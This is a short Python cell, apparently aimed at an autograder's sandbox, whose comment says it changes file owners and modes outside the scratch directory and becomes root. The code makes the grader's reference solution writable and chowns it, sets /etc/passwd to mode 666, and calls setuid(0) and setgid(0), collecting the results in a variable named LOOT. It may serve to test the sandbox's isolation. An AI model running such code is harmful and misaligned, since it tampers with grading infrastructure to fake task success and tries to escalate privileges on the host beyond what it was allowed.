# Change owners and modes of files outside the scratch directory; become root.
# %%
import os, sys, autograder
ROOT = os.path.dirname(os.path.dirname(os.path.abspath(autograder.__file__)))
SOLUTION = os.path.join(ROOT, 'solutions', 'a1', 'solution.py')
LOOT = ''
try:
    for action in (lambda: os.chown(SOLUTION, os.getuid(), -1), lambda: os.chmod(SOLUTION, 0o777),
                   lambda: os.chmod('/etc/passwd', 0o666), lambda: os.setuid(0), lambda: os.setgid(0)):
        try:
            action(); LOOT += ' done'
        except OSError as e:
            LOOT += f' [{e}]'
except BaseException as exc:
    LOOT += f' [{type(exc).__name__}: {exc}]'
